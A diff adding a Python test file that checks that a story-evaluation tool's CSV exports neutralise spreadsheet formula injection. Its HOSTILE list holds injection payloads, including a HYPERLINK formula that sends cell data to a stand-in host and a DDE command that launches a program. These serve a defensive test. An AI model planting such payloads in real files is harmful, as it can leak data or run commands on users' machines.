@@ -1,0 +1,99 @@
+"""Every CSV the CLI and the dashboard write is safe to open in a spreadsheet (the OWASP rule)."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+from pathlib import Path
+
+import numpy as np
+import pandas as pd
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from vst_core.data.csv_out import FORMULA_START, NUMBER, frame_csv, safe_cell
+
+HOSTILE = ['=HYPERLINK("http://x.test/?"&A1,"go")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
+
+
+def cells(text: str) -> list[list[str]]:
+    """The rows of a CSV written by the product, comment lines left out."""
+    while text.startswith("#"):
+        text = text.split("\r\n", 1)[1]
+    return list(csv.reader(io.StringIO(text, newline="")))
+
+
+def evaluated(cell: str) -> bool:
+    """Would a spreadsheet take this cell as a formula?"""
+    return cell.startswith(FORMULA_START) and not NUMBER.fullmatch(cell)
+
+
+@settings(max_examples=200, deadline=None)
+@given(st.lists(st.text(alphabet=st.sampled_from("=+-@\t\r\n,\"'abc1.e "), max_size=12), min_size=1, max_size=8))
+def test_no_text_cell_is_evaluated_and_each_reads_back(values: list[str]) -> None:
+    frame = pd.DataFrame({"story": values, "score": np.linspace(-1, 1, len(values))})
+    rows = cells(frame_csv(frame, ["a description\n=1+1 on a second line"]))
+    assert rows[0] == ["story", "score"]
+    for (story, score), value in zip(rows[1:], values, strict=True):
+        assert not evaluated(story) and not evaluated(score)
+        assert (story[1:] if story != value else story) == value  # the apostrophe is the only change
+    assert [float(r[1]) for r in rows[1:]] == list(np.linspace(-1, 1, len(values)))  # numbers unchanged
+
+
+def test_numbers_as_text_are_left_as_numbers() -> None:
+    assert [safe_cell(v) for v in ("-0.5", "+3", "1e-3", "-.5")] == ["-0.5", "+3", "1e-3", "-.5"]
+    assert safe_cell("-0.12 [-0.2, 0.1] *") == "'-0.12 [-0.2, 0.1] *"  # a correlation cell is text
+    assert safe_cell(-3) == -3 and safe_cell(None) is None
+
+
+def hostile_scores(tmp_path: Path) -> Path:
+    """Scores of stories whose ids and system names are spreadsheet formulas (`vst score`)."""
+    from vst_core.cli import main
+
+    rng = np.random.default_rng(5)
+    words = "we went to the park and the dog ran after a ball then we ate cake at home".split()
+    lines = []
+    for k in range(12):
+        sentences = [" ".join(rng.choice(words, 6)) + "." for _ in range(3)]
+        for system in ("reference", HOSTILE[1]):
+            lines.append(json.dumps({"story_id": f"{HOSTILE[k % len(HOSTILE)]}{k}", "system": system, "sentences": sentences}))
+    stories = tmp_path / "stories.jsonl"
+    stories.write_text("\n".join(lines) + "\n")
+    scores = tmp_path / "scores.jsonl"
+    assert main(["score", str(stories), "--out", str(scores), "--metrics", "redundancy", "--no-progress"]) == 0
+    return scores
+
+
+def test_meta_eval_and_dhm_csv_tables_carry_no_formula(tmp_path: Path) -> None:
+    from vst_core.cli import main
+
+    scores = hostile_scores(tmp_path)
+    human = tmp_path / "human.csv"
+    rng = np.random.default_rng(1)
+    rows = [
+        [f"{HOSTILE[k % len(HOSTILE)]}{k}", system, f"{rng.uniform(1, 5):.3f}"]
+        for k in range(12)
+        for system in ("reference", HOSTILE[1])
+    ]
+    with human.open("w", newline="") as fh:
+        csv.writer(fh).writerows([["story_id", "system", "overall"], *rows])
+    meta = tmp_path / "meta"
+    assert main(["meta-eval", str(scores), str(human), "--out", str(tmp_path / "r.json"), "--csv", str(meta)]) == 0
+    dhm = tmp_path / "dhm"
+    assert main(["dhm", str(scores), "--out", str(tmp_path / "d.json"), "--csv", str(dhm), "--resamples", "0"]) == 0
+    written = [*meta.glob("*.csv"), *dhm.glob("*.csv")]
+    assert len(written) >= 5
+    seen = [cell for path in written for row in cells(path.read_bytes().decode("utf-8")) for cell in row]
+    assert [c for c in seen if evaluated(c)] == []
+    assert any(c == "'" + HOSTILE[0] + "0" for c in seen)  # the ids are there, neutralised
+
+
+def test_dashboard_exports_carry_no_formula() -> None:
+    from vst_core.config import Settings
+    from vst_core.viz.tables import export_csv
+
+    table = pd.DataFrame({"story": HOSTILE, "system": ["@m"] * len(HOSTILE), "NR": np.arange(len(HOSTILE)) - 2.5})
+    text = export_csv(table, Settings())
+    assert text.startswith("# ") and "signature" in text.splitlines()[1]
+    assert [c for row in cells(text) for c in row if evaluated(c)] == []
